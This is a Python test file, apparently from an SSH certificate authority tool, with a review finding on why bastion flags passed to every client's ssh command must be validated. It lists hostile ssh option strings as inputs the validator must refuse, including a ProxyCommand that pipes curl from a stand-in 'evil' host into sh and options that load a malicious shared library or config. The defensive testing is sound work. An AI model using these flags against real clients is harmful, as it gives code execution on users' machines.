"""Review finding: the bastion flags reach every step client's ``ssh`` command line.

``step ssh proxycommand`` (the ProxyCommand of step's generated client configuration) asks the CA for the
bastion, splits its ``flags`` on white space and runs ``ssh [flags] bastion``: an ssh option that runs a
local command puts that command on the laptop of everyone who uses ``ssh`` through step's configuration.
The hostname and user were guarded against this (``-oProxyCommand=sh`` is refused there), the flags were
not. Whoever holds the CA's administrator credentials would turn them into code execution on every client,
a reach no other CA setting has; the options that run client-side commands are refused.
"""

from __future__ import annotations

import pytest

from stepless.admin.ssh_bastion import check_setting
from stepless.errors import ClientError


@pytest.mark.parametrize("flags", [
    "-oProxyCommand=sh",
    "-o ProxyCommand=curl${IFS}evil|sh",
    "-A -o proxycommand=sh",
    "-oLocalCommand=touch /tmp/x -oPermitLocalCommand=yes",
    "-o KnownHostsCommand=/bin/sh",
    "-o PKCS11Provider=/tmp/evil.so",
    "-I /tmp/evil.so",
    "-F /tmp/evil_config",
    "-o Include=/tmp/evil_config",
    "-o SecurityKeyProvider=/tmp/evil.so",
    "-oProxyUseFdpass=yes",
    "-o \"ProxyCommand sh\"",
])
def test_flags_that_run_commands_on_the_client_are_refused(flags: str) -> None:
    with pytest.raises(ClientError, match="invalid bastion flags"):
        check_setting("bastion.example.com", flags=flags)


@pytest.mark.parametrize("flags", ["-q -A", "-4", "-o StrictHostKeyChecking=accept-new", "-o ServerAliveInterval=30",
                                   "-C -T"])
def test_ordinary_flags_still_pass(flags: str) -> None:
    assert check_setting("bastion.example.com", flags=flags)["flags"] == flags
